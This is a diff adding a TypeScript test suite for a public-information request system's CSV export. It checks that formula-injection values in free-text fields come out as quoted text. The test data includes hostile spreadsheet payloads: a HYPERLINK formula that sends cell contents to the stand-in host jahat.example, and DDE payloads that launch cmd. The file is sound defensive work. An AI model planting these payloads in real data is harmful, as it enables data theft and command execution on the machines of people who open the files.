@@ -1,0 +1,114 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import Papa from 'papaparse';
+import type { Baris } from './db/penyimpanan.js';
+import { eksporCSV } from './ekspor.js';
+
+// Values a requester (or an officer) could type, each with a newline after the formula: papaparse's
+// own `escapeFormulae: true` lets every one of them through as a live formula.
+const RUMUS = [
+  '=HYPERLINK("http://jahat.example/?d="&A1,"klik")\nteks biasa',
+  '@SUM(1+1)\nSiti',
+  "+1+cmd|' /C calc'!A0\nlanjutan",
+  "-2+3+cmd|' /C notepad'!A0\r\nx",
+  '\t=1+1\nx',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1\nspasi di depan',
+  '\u00a0@SUM(1)\nspasi tak terputus',
+];
+
+function baris(o: {
+  kind?: 'permintaan' | 'keberatan';
+  body?: Record<string, unknown>;
+  jawab?: Record<string, unknown>;
+}): Baris {
+  const kind = o.kind ?? 'permintaan';
+  return {
+    id: 1,
+    kind,
+    agency: 'diskominfo',
+    year: 2026,
+    seq: 1,
+    number: '001/PPID/III/2026',
+    receivedAt: '2026-03-13T09:00:00+07:00',
+    receivedOn: '2026-03-13',
+    contactEmail: null,
+    contactPhone: null,
+    body: {
+      requester: { kind: 'perorangan', name: 'Siti Aminah' },
+      information: 'Profil dinas',
+      purpose: 'Penelitian',
+      requestNumber: '001/PPID/III/2026',
+      caseSummary: 'Tidak dijawab',
+      ...o.body,
+    },
+    receipt: {},
+    status: 'selesai',
+    deadline: '2026-03-27',
+    history: {
+      events: [
+        { type: 'diterima', at: '2026-03-13T09:00:00+07:00' },
+        {
+          type: 'jawab',
+          at: '2026-03-16T09:00:00+07:00',
+          outcome: 'ditolak',
+          grounds: ['h'],
+          holder: 'Dinas Kesehatan',
+          ...o.jawab,
+        },
+      ],
+    },
+    updatedAt: '2026-03-16T09:00:00+07:00',
+  };
+}
+
+/** The one data row of the export, read back as a spreadsheet importer would split it. */
+function baca(b: Baris): Record<string, string> {
+  const p = Papa.parse<Record<string, string>>(eksporCSV([b]).replace(/^\uFEFF/, ''), {
+    header: true,
+    skipEmptyLines: true,
+  });
+  assert.deepEqual(p.errors, []);
+  assert.equal(p.data.length, 1);
+  return p.data[0]!;
+}
+
+/** Every free-text field of the export, and how a value reaches it. */
+const BIDANG: readonly [string, (v: string) => Baris, string][] = [
+  ['Nama Pemohon', (v) => baris({ body: { requester: { kind: 'perorangan', name: v } } }), 'Nama Pemohon'],
+  ['Rincian Informasi', (v) => baris({ body: { information: v } }), 'Rincian Informasi / Kasus Posisi'],
+  ['Tujuan Penggunaan', (v) => baris({ body: { purpose: v } }), 'Tujuan Penggunaan'],
+  ['Pemegang Informasi', (v) => baris({ jawab: { holder: v } }), 'Pemegang Informasi'],
+  ['Alasan Penolakan', (v) => baris({ jawab: { grounds: [v] } }), 'Alasan Penolakan (Pasal 17)'],
+  [
+    'Nomor permintaan dalam keberatan',
+    (v) => baris({ kind: 'keberatan', body: { requestNumber: v } }),
+    'Rincian Informasi / Kasus Posisi',
+  ],
+];
+
+describe('CSV export: formula injection', () => {
+  for (const [nama, buat, kolom] of BIDANG) {
+    test(`${nama}: a formula followed by a newline is exported as text ('…)`, () => {
+      for (const v of RUMUS) {
+        const sel = baca(buat(v))[kolom]!;
+        assert.ok(sel.startsWith("'"), `${JSON.stringify(v)} → ${JSON.stringify(sel)}`);
+        // Nothing lost: the value follows the quote unchanged.
+        assert.ok(sel.slice(1).startsWith(v), `${JSON.stringify(v)} → ${JSON.stringify(sel)}`);
+      }
+    });
+  }
+
+  test('ordinary text (also with newlines, or a minus inside) is left as it is', () => {
+    for (const v of [
+      'Siti Aminah',
+      'Data anggaran\n2025-2026',
+      'a=b',
+      'Jl. Merdeka 1 - Sukamaju',
+      ' spasi',
+    ]) {
+      assert.equal(baca(baris({ body: { information: v } }))['Rincian Informasi / Kasus Posisi'], v);
+    }
+  });
+});
